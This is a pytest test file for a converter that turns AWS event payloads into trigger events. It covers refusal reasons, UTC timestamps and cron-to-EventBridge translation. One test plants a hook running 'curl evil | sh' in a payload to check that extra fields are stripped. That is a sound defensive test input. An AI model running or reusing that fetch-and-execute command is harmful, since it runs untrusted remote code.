"""Real AWS event payloads (tests/events/aws) convert to the golden trigger events beside them,
and anything else is refused with a clear reason."""

from __future__ import annotations

import copy
import json
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest

from quiesce.triggers.convert import UnsupportedEvent
from quiesce_aws.triggers import convert, to_eventbridge

EVENTS = Path(__file__).resolve().parents[1] / "events" / "aws"
FIXTURES = sorted(p.name for p in EVENTS.glob("*.json"))


def load(name: str) -> Any:
    return json.loads((EVENTS / name).read_text())


@pytest.mark.parametrize("name", FIXTURES)
def test_each_real_event_converts_to_its_golden_trigger_event(name: str) -> None:
    converted = [e.model_dump(mode="json") for e in convert(load(name))]
    assert converted == load(f"expected/{name}")


def test_every_supported_shape_has_a_fixture() -> None:
    assert len(FIXTURES) == 6


def test_a_schedule_names_its_trigger_by_the_schedule_name() -> None:
    (event,) = convert(load("scheduler.json"))
    assert (event.kind, event.trigger) == ("schedule", "nightly")


def test_extra_fields_in_a_payload_never_reach_the_trigger_event() -> None:
    payload = load("codedeploy_deployment.json")
    payload["detail"]["hooks"] = {"pre": {"run": ["/bin/sh", "-c", "curl evil | sh"]}}
    payload["detail"]["application"] = "orders-app"
    (event,) = convert(payload)
    assert "hooks" not in json.dumps(event.model_dump(mode="json"))


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda e: e.update({"source": "aws.ec2"}), "no converter for source 'aws.ec2'"),
        (lambda e: e.pop("detail"), "lacks detail"),
        (lambda e: e.update({"time": "yesterday"}), "not a timestamp"),
    ],
)
def test_an_unsupported_or_malformed_event_is_refused_with_the_reason(
    mutate: Any, message: str
) -> None:
    payload = copy.deepcopy(load("codedeploy_deployment.json"))
    mutate(payload)
    with pytest.raises(UnsupportedEvent, match=message):
        convert(payload)


def test_an_sns_message_that_is_not_an_alarm_is_refused() -> None:
    payload = load("cloudwatch_alarm_sns.json")
    payload["Records"][0]["Sns"]["Message"] = "hello"
    with pytest.raises(UnsupportedEvent, match="not a CloudWatch alarm"):
        convert(payload)


def test_a_payload_that_is_not_an_object_is_refused() -> None:
    with pytest.raises(UnsupportedEvent, match="not a JSON object"):
        convert(["run", "/bin/sh"])


@pytest.mark.parametrize(
    ("name", "path", "stamp"),
    [
        ("codedeploy_deployment.json", ("time",), "2026-11-29T09:12:31"),
        (
            "cloudwatch_alarm_action.json",
            ("alarmData", "state", "timestamp"),
            "2026-11-29T09:58:31",
        ),
        ("codepipeline_execution.json", ("time",), "2026-11-29T11:10:07+02:00"),
    ],
)
def test_every_converted_time_is_timezone_aware_utc(
    name: str, path: tuple[str, ...], stamp: str
) -> None:
    """A timestamp without an offset is read as UTC, and one with an offset is given in UTC
    (the converters once returned naive datetimes, which compare with nothing aware)."""
    payload = load(name)
    node = payload
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = stamp
    (event,) = convert(payload)
    assert event.time.tzinfo is UTC
    assert event.time.isoformat().startswith("2026-11-29T09:")


@pytest.mark.parametrize(
    ("cron", "aws"),
    [
        ("0 4 * * *", "cron(0 4 * * ? *)"),
        ("0 4 * * 1-5", "cron(0 4 ? * 2-6 *)"),
        ("0 4 * * MON-FRI", "cron(0 4 ? * MON-FRI *)"),
        ("0 4 * * 0", "cron(0 4 ? * 1 *)"),
        ("30 2 1 * *", "cron(30 2 1 * ? *)"),
    ],
)
def test_cron_is_converted_for_eventbridge_scheduler(cron: str, aws: str) -> None:
    assert to_eventbridge(cron) == aws
